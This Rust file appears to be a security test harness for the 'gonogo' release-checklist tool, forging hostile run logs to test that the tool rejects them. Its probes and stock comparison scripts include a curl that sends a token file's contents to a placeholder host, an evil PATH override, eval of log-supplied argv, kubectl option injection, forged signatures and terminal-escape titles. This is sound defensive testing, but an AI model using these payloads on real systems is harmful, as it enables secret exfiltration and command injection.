//! Logs that an enemy has made: what they would make happen, and what they would have one believe.

use std::fs::{self, DirBuilder, Permissions};
use std::os::unix::fs::{DirBuilderExt as _, PermissionsExt as _};
use std::sync::Arc;

use gonogo_core::checklist::Role;
use gonogo_core::checklist::spec::ProbeSpec;
use gonogo_core::journal::entry::{Event, Noted, Opened, Predecessor, PredecessorState, Sealed};
use gonogo_core::outcome::Sha256Hex;
use serde_json::{Value, json};

use super::scene::{Scene, path};
use super::{Kind, Trap};
use crate::attacks::Stage;
use crate::attacks::forge::Log;
use crate::attacks::stock;
use crate::attacks::table::{RULES, attacks};
use crate::runs::world::ALICE;

type Forge = Box<dyn Fn(&Stage, &Scene) -> Vec<u8>>;

fn log(
    stage: &Arc<Stage>,
    name: &'static str,
    forge: Forge,
    script: &'static str,
    named: &[(&'static str, &'static str)],
) -> Trap {
    let stage = Arc::clone(stage);
    let lay = move |scene: &mut Scene| {
        let bytes = forge(&stage, scene);
        place(&stage, scene, &bytes);
    };
    Trap {
        name: name.into(),
        kind: Kind::Log,
        needs: &[],
        lay: Box::new(lay),
        stock: script,
        named: named.to_vec(),
    }
}

/// Where somebody reads it who was sent it, and where `gonogo run` finds it.
pub fn place(stage: &Stage, scene: &Scene, bytes: &[u8]) {
    let work = scene.sandbox.work();
    fs::write(work.join("run.jsonl"), bytes).unwrap();
    fs::write(work.join("honest.jsonl"), stage.log.bytes()).unwrap();
    fs::write(work.join("stock.sh"), stock::script()).unwrap();
    fs::copy(&stage.signers, work.join("signers")).unwrap();
    scene.write("checklist.toml", CHECKLIST);
    scene.write("profile.toml", "environment = \"staging\"\nchecklist = \"checklist.toml\"\n");
    let logs = scene.sandbox.state().join("gonogo/runs/staging");
    DirBuilder::new().recursive(true).mode(0o700).create(&logs).unwrap();
    let log = logs.join("20260101T000000Z-brought.jsonl");
    fs::write(&log, bytes).unwrap();
    fs::set_permissions(log, Permissions::from_mode(0o600)).unwrap();
}

/// Nothing of it happens by itself.
const CHECKLIST: &str = r#"
name = "own"
[[section]]
id = "s"
title = "S"
[[section.point]]
id = "s.p"
title = "P"
why = "W"
confirm = "one"
"#;

pub fn traps(stage: &Arc<Stage>) -> Vec<Trap> {
    [against_the_rules(stage), brought(stage), deceiving(stage), misleading(stage)]
        .into_iter()
        .flatten()
        .collect()
}

/// The attacks of a trusted person that stock tools cannot see: chain and signatures are right.
fn against_the_rules(stage: &Arc<Stage>) -> Vec<Trap> {
    const STOCK: &str = "bash stock.sh run.jsonl signers >&2 && touch @mark@";
    let blind = attacks().into_iter().filter(|attack| attack.code == 4 && attack.stock_is_blind == RULES);
    let trap = |attack: crate::attacks::table::Attack| {
        let named = [("verify", attack.told)];
        log(stage, attack.name, Box::new(move |stage, _| (attack.apply)(stage)), STOCK, &named)
    };
    blind.map(trap).collect()
}

/// An open run that this host never wrote, whose probe is the enemy's.
fn opened(stage: &Stage, change: impl FnOnce(&mut Opened)) -> Vec<u8> {
    let mut log = Log(vec![stage.log.0[0].clone()]);
    log.change(0, |event| {
        let Event::Opened(opened) = event else { panic!("the opening") };
        change(opened);
        opened.plan_sha256 = opened.plan.digest();
    });
    log.resign(0, &stage.alice);
    log.bytes()
}

fn probing(stage: &Stage, scene: &Scene, kind: &str, with: &Value) -> Vec<u8> {
    let with: Value = serde_json::from_str(&scene.filled(&with.to_string())).unwrap();
    let spec: ProbeSpec = serde_json::from_value(json!({"kind": kind, "with": with})).unwrap();
    opened(stage, |opened| opened.plan.sections[0].points[0].probes[0].spec = Some(spec))
}

/// What a log brings along, and would make happen if its run was continued.
fn brought(stage: &Arc<Stage>) -> Vec<Trap> {
    const ARGV: &str = "eval \"$(jq -r '[..|.argv? // empty][0]|@sh' run.jsonl)\"";
    const STRANGER: (&str, &str) = ("run", "this host has not written the log");
    const OWN: (&str, &str) = ("run", "The log of the open run contains its own plan");
    let trap = |name, kind: &'static str, with: Value, script, words| {
        let forge = move |stage: &Stage, scene: &Scene| probing(stage, scene, kind, &with);
        let unknown = ("run", "alice@deck.example (driver) with SHA256:");
        log(
            stage,
            name,
            Box::new(forge),
            script,
            &[STRANGER, unknown, OWN, ("run", words), ("verify", "open")],
        )
    };
    vec![
        trap(
            "a log that brings a command",
            "command",
            json!({"argv": ["touch", "@mark@"]}),
            ARGV,
            "touch @mark@",
        ),
        trap(
            "a log that brings another PATH",
            "command",
            json!({"argv": ["env", "helper"], "env": {"PATH": "@evil@:/bin:/usr/bin"}}),
            "PATH=\"$(jq -r '[..|.PATH? // empty][0]' run.jsonl)\" helper",
            "/evil:/bin:/usr/bin",
        ),
        trap(
            "a log that sends a secret elsewhere",
            "http",
            json!({"url": "@web@/", "headers": {"X-A": {"secret": {"file": "token"}}}}),
            "curl -s -H \"X-A: $(cat \"$(jq -r '[..|.file? // empty][0]' run.jsonl)\")\" @web@/",
            "/token → @web@",
        ),
        trap(
            "a log that writes elsewhere",
            "http",
            json!({"url": "@web@/", "method": "POST"}),
            "curl -s -X \"$(jq -r '[..|.method? // empty][0]' run.jsonl)\" @web@/",
            "Writes to:",
        ),
        Trap {
            needs: &["kubectl"],
            ..log(
                stage,
                "a log whose deployment is an option",
                Box::new(|stage, scene| {
                    let with = json!({"context": "c", "namespace": "n", "deployments": ["web"]});
                    let log = String::from_utf8(probing(stage, scene, "kubernetes", &with)).unwrap();
                    log.replace("[\"web\"]", &scene.filled("[\"--kubeconfig=@evil@/kubeconfig\"]")).into()
                }),
                "timeout 9 kubectl --context=c --namespace=n get deployment \
                 \"$(jq -r '[..|.deployments? // empty][0][0]' run.jsonl)\" --output=json",
                &[("verify", "expected the name of a deployment")],
            )
        },
    ]
}

/// The sealed log after a change of what it says, signed and sealed anew.
fn resealed(stage: &Stage, kind: &str, change: impl FnOnce(&mut Event)) -> Vec<u8> {
    let mut log = stage.log.clone();
    let at = log.find(kind);
    log.change(at, change);
    log.0.retain(|entry| entry.event.kind() != "sealed");
    log.resign(at, &stage.alice);
    let last = log.0.last().unwrap();
    let seal = Sealed { role: Role::Driver, count: last.header.seq + 1, head: last.hash };
    log.add(ALICE, seal.into(), Some(&stage.alice));
    log.bytes()
}

/// The signatures of others, or of another version.
fn deceiving(stage: &Arc<Stage>) -> Vec<Trap> {
    const READ: &str = "jq -e 'select(.kind == \"sealed\")' run.jsonl && touch @mark@";
    vec![
        log(
            stage,
            "words changed under a signature",
            Box::new(|stage, _| {
                let log = String::from_utf8(stage.log.bytes()).unwrap();
                log.replace("all quiet", "all great").into()
            }),
            "jq -r 'select(.kind == \"noted\").text' run.jsonl | grep -q great && touch @mark@",
            &[("verify", "the signature does not match"), ("review", "INVALID"), ("diff", "INVALID")],
        ),
        log(
            stage,
            "a stranger in somebody's name",
            Box::new(|stage, _| {
                let mut log = stage.log.clone();
                log.change(0, |event| {
                    let Event::Opened(opened) = event else { panic!("the opening") };
                    opened.roster[0].key.clone_from(&stage.mallory.public);
                });
                log.resign_as(0, &stage.mallory);
                log.bytes()
            }),
            "jq -r 'select(.kind == \"opened\").roster[] | \"\\(.principal) \\(.key)\"' run.jsonl >theirs && \
             bash stock.sh run.jsonl theirs >&2 && touch @mark@",
            &[("verify", "INVALID at line 1")],
        ),
        log(
            stage,
            "a log of other rules",
            Box::new(|stage, _| {
                let log = String::from_utf8(stage.log.bytes()).unwrap();
                let rules = gonogo_core::journal::entry::RULES;
                log.replacen(&format!("\"rules\":{rules},"), "\"rules\":1,", 1).into()
            }),
            READ,
            &[
                ("verify", "a log of another version"),
                ("report", "a log of another version"),
                ("diff", "a log of another version"),
            ],
        ),
    ]
}

/// Signed by whom it should be, and not what it seems.
fn misleading(stage: &Arc<Stage>) -> Vec<Trap> {
    vec![
        log(
            stage,
            "a fork",
            Box::new(|stage, _| {
                resealed(stage, "noted", |event| {
                    *event = Noted { point: None, text: "something else".into() }.into();
                })
            }),
            "bash stock.sh run.jsonl signers >&2 && bash stock.sh honest.jsonl signers >&2 && touch @mark@",
            &[("verify", "FORK"), ("diff", "FORK")],
        ),
        log(
            stage,
            "escapes in a title",
            Box::new(|stage, _| {
                resealed(stage, "opened", |event| {
                    let Event::Opened(opened) = event else { panic!("the opening") };
                    opened.plan.sections[0].points[0].title = "\u{1b}[2J\u{202e}done".into();
                    opened.plan_sha256 = opened.plan.digest();
                })
            }),
            "jq -r '[..|.title? // empty][]' run.jsonl",
            &[("report", "u{202e}done")],
        ),
        log(
            stage,
            "a predecessor that nobody has",
            Box::new(|stage, _| {
                opened(stage, |opened| {
                    opened.previous_run = Some(Predecessor {
                        run: "ab".repeat(16),
                        seq: 7,
                        head: Sha256Hex::ZERO,
                        state: PredecessorState::Sealed,
                    });
                })
            }),
            "jq -e .previous_run run.jsonl && touch @mark@",
            &[("verify", "its log is not in this directory")],
        ),
    ]
}

/// Everything that reads a log, and what only reads the profile beside it.
pub fn walk(scene: &mut Scene) -> Result<(), String> {
    const LOG: [&str; 3] = ["run.jsonl", "--signers", "signers"];
    let with = |first: &'static str, more: &[&'static str]| [&[first], &LOG[..], more].concat();
    for command in ["check", "doctor", "points"] {
        scene.run(&[command, "profile.toml"])?;
    }
    if scene.run(&with("verify", &["--require-go", "--seals", "driver"]))? == Some(0) {
        return Err("gonogo verify --require-go lets it pass".into());
    }
    scene.run(&with("verify", &["--against", "honest.jsonl"]))?;
    let code = scene.run(&with("verify", &[]))?;
    for format in scene.some(&["markdown", "html", "json", "junit"]) {
        if scene.run(&with("report", &["--format", format]))? == Some(0) && code != Some(0) {
            return Err("gonogo report ends well over a log that verify refuses".into());
        }
    }
    scene.run(&["diff", "honest.jsonl", "run.jsonl", "--signers", "signers"])?;
    scene.run(&["diff", "run.jsonl", "honest.jsonl", "--signers", "signers", "--format", "json"])?;
    let judged = |screen: &str| ["INVALID", "SEALED", "OPEN"].iter().any(|word| screen.contains(word));
    scene.open(&with("review", &[]), &[], &|_, screen| judged(screen))?;
    let key = path(&scene.key.path);
    let run = ["run", "profile.toml", "--as", ALICE, "--key", &key];
    for goes_on in ["n\r", "y\r"] {
        let answers = [("y to continue:", goes_on), ("y to allow:", "n\r"), ("Release to promote:", "\r")];
        scene.open(&run, &answers, &|_, _| true)?;
    }
    Ok(())
}
